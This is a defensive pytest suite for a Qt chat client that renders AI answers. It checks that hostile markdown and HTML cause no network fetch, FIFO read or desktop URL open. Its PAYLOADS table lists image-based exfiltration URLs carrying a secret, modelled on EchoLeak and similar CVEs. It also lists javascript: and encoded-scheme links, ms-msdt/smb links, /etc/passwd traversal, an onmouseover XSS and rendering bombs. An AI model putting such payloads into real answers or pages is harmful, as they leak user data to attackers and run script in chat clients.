"""Hostile text in an answer: nothing is fetched, nothing is opened, nothing hangs.

Three canaries must stay untouched: a web server, a pipe on the disk that hangs whoever reads it, and the desktop, which
is told of every address that a program opens. Cases that have become known elsewhere are named after their source.
"""

from __future__ import annotations

import errno
import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import cast

import pytest
from PySide6.QtCore import QObject, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QTextDocument
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from tests.fakes.sample_state import sample_state
from tests.ui.chat.chat_samples import answered, asked, chat_of
from tests.ui.chat.text.test_markdown import BOMBS
from workbench.engine.state import RunningTurn
from workbench.ui.chat.messages.answer_view import AnswerView
from workbench.ui.chat.text.safe_browser import SafeBrowser
from workbench.ui.chat.text.safe_text import SCHEMES, may_open
from workbench.ui.chat.transcript.transcript import Transcript

SECRET = "the-secret"
HTTP, FIFO = "@HTTP@", "@FIFO@"

PAYLOADS = {
    "a picture that never ends (safety)": "![](file:///dev/zero)",
    "a pipe that hangs its reader (safety)": f"![x](file://{FIFO})",
    "EchoLeak CVE-2025-32711, exfiltration by a picture": f"![x]({HTTP}/leak?q={SECRET})",
    "EchoLeak CVE-2025-32711, by reference": f"![x][ref]\n\n[ref]: {HTTP}/leak?q={SECRET}",
    "Open WebUI #16539, a picture in a table": f"| ![x]({HTTP}/leak) |\n|---|\n| ![y]({HTTP}/leak) |",
    "Open WebUI #18387, HTML in a code block": f"```html\n<img src='{HTTP}/leak'><script>fetch('{HTTP}')</script>\n```",
    "HTML in inline code": f"`<img src='{HTTP}/leak'>`",
    "a raw picture": f"<img src='{HTTP}/leak'>",
    "a raw picture of a pipe": f"<img src='file://{FIFO}'>",
    "a raw frame": f"<iframe src='{HTTP}/leak'></iframe>",
    "a raw object": f"<object data='{HTTP}/leak'></object>",
    "a style sheet": f"<link rel=stylesheet href='{HTTP}/leak'>",
    "an import in a style": f"<style>@import url({HTTP}/leak);</style>",
    "a background": f"<body background='{HTTP}/leak'><table background='file://{FIFO}'><tr><td>x</td></tr></table>",
    "a style with an address": f"<p style='background-image:url({HTTP}/leak)'>x</p>",
    "a drawing with a picture in it": f"<svg><image href='{HTTP}/leak'/></svg>",
    "a picture in a link": f"[![x]({HTTP}/a)]({HTTP}/b)",
    "a picture in a heading": f"# ![x]({HTTP}/leak)",
    "a picture in a list in a quote": f"> - ![x]({HTTP}/leak)",
    "a share of the network, which sends a hash (safety)": "![x](\\\\\\\\server\\\\share\\\\x.png) ![y](file://server/share/y.png)",
    "our own resources": "![x](qrc:/icons/x.svg) ![y](:/y.png)",
    "a relative path (Jan CVE-2024-36857)": "![x](../../../../etc/passwd) ![y](/etc/passwd)",
    "a drawing in the address": f"![x](data:image/svg+xml,<svg><image href='{HTTP}/leak'/></svg>)",
    "an address in brackets": f"<file://{FIFO}> <{HTTP}/auto>",
    "a title that looks like markup": f"[x]({HTTP}/a \"<img src='{HTTP}/leak'>\")",
    "a formula with a file": f"$\\includegraphics{{{FIFO}}}$ and $$\\href{{{HTTP}/leak}}{{x}}$$",
    "DeepChat CVE-2025-55733, a scheme that runs": "[x](javascript:alert(1)) <a href='javascript:alert(1)'>y</a>",
    "DeepChat CVE-2026-43899, its own scheme": "[x](deepchat://start?msg=x&mcp=y)",
    "pi-mono, a scheme in an export": "[x](<javascript:alert(1)>) [y](JaVaScRiPt:alert(1))",
    "an encoded scheme": "[x](&#106;avascript:alert(1)) [y](java&#x0A;script:alert(1)) [z](java\\script:1)",
    "a scheme after a control sign": "[x](\x01javascript:alert(1)) [y](\u200bfile:///etc/passwd)",
    "Cherry Studio PR #13893, markup in what is found": "<mark onmouseover=alert(1)>x</mark>",
    "programs of the system (safety)": "[x](ms-msdt:/id%20x) [y](smb://server/share) [z](search-ms:query=x)",
}


class Desktop(QObject):
    """Is told of every address that this program opens."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[str] = []

    @Slot(QUrl)
    def take(self, url: QUrl) -> None:
        self.opened.append(url.toString())


class Door(BaseHTTPRequestHandler):
    """Notes whoever knocks."""

    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@dataclass
class Canaries:
    http: str
    fifo: Path
    desktop: Desktop
    hits: list[str] = field(default_factory=list)

    def fill(self, text: str) -> str:
        return text.replace(HTTP, self.http).replace(FIFO, str(self.fifo))

    def is_read(self) -> bool:
        """Whether somebody has the pipe open: only then can it be opened for writing without waiting."""
        try:
            os.close(os.open(self.fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError as error:
            if error.errno != errno.ENXIO:
                raise
            return False
        return True


@pytest.fixture
def canaries(qapp: QApplication, tmp_path: Path) -> Iterator[Canaries]:
    fifo, desktop = tmp_path / "pipe", Desktop()
    os.mkfifo(fifo)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Door)
    server.hits = []  # type: ignore[attr-defined]
    thread = Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    schemes = (*SCHEMES, "file", "javascript", "smb", "ms-msdt", "data", "qrc")
    for scheme in schemes:
        QDesktopServices.setUrlHandler(scheme, desktop, "take")  # type: ignore[arg-type]  # the stub wants bytes, the call a name
    yield Canaries(f"http://127.0.0.1:{server.server_port}", fifo, desktop, server.hits)  # type: ignore[attr-defined]
    for scheme in schemes:
        QDesktopServices.unsetUrlHandler(scheme)
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def transcript(qtbot: QtBot) -> Transcript:
    made = Transcript()
    qtbot.addWidget(made)
    made.resize(596, 600)
    made.show()
    return made


def render(transcript: Transcript, text: str, qtbot: QtBot) -> AnswerView:
    """Shown in every way there is: while it arrives, finished, as a question, and painted."""
    state = sample_state()
    for length in (len(text) // 2, len(text)):
        running = RunningTurn(1, "q", text=text[:length], thinking=text[:2_000])
        transcript.show_state(state, chat_of(asked("q", text[:20_000]), running=running))
        transcript.grab()
    transcript.show_state(state, chat_of(asked("q", text[:20_000]), answered("a", text)))
    view = transcript.column.view("a")
    assert isinstance(view, AnswerView)
    qtbot.waitUntil(lambda: not view.body._is_reading(), timeout=60_000)
    transcript.finish_drawing()
    transcript.grab()
    return view


def _texts(view: AnswerView) -> list[SafeBrowser]:
    return cast("list[SafeBrowser]", view.findChildren(SafeBrowser))


def anchors(view: AnswerView) -> set[str]:
    found: set[str] = set()
    for edit in _texts(view):
        block = edit.document().begin()
        while block.isValid():
            step = block.begin()
            while not step.atEnd():
                found.add(step.fragment().charFormat().anchorHref())
                step += 1
            block = block.next()
    return found - {""}


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_is_fetched_and_nothing_opened(
    name: str, transcript: Transcript, canaries: Canaries, qtbot: QtBot
):
    view = render(transcript, canaries.fill(PAYLOADS[name]), qtbot)
    assert canaries.hits == []
    assert not canaries.is_read()
    assert canaries.desktop.opened == []
    assert all(may_open(url) for url in anchors(view))


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_click_opens_nothing_by_itself(name: str, transcript: Transcript, canaries: Canaries, qtbot: QtBot):
    view = render(transcript, canaries.fill(PAYLOADS[name]), qtbot)
    for edit in _texts(view):
        before = edit.document().toPlainText()
        for url in anchors(view):
            edit.anchorClicked.emit(QUrl(url))
        assert edit.document().toPlainText() == before
    assert canaries.desktop.opened == []
    assert canaries.hits == []


def test_the_canaries_sing(canaries: Canaries, qtbot: QtBot):
    """Else every test above would pass by watching the wrong door."""
    QDesktopServices.openUrl(QUrl(f"{canaries.http}/x"))
    assert canaries.desktop.opened == [f"{canaries.http}/x"]
    reader = os.open(canaries.fifo, os.O_RDONLY | os.O_NONBLOCK)
    assert canaries.is_read()
    os.close(reader)
    stock = QTextDocument()
    picture = canaries.fifo.with_name("x.txt")
    picture.write_text("read")
    assert stock.resource(
        QTextDocument.ResourceType.StyleSheetResource.value, QUrl.fromLocalFile(str(picture))
    )


@pytest.mark.parametrize(
    "name",
    [*BOMBS, "a word of a megabyte", "right to left without end", "deep quotes", "a table of a megabyte"],
)
def test_no_bomb_hangs_the_window(name: str, transcript: Transcript, qtbot: QtBot):
    """The ticker of every test of the window fails this one where any single step takes long."""
    bombs = {
        **BOMBS,
        "a word of a megabyte": "a" * 1_000_000,
        "right to left without end": "\u202e\u2067שלום " * 20_000,
        "deep quotes": "> " * 2_000 + "end\n" + "- " * 2_000 + "end",
        "a table of a megabyte": "|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 120_000,
    }
    view = render(transcript, bombs[name], qtbot)
    assert view.height() > 0
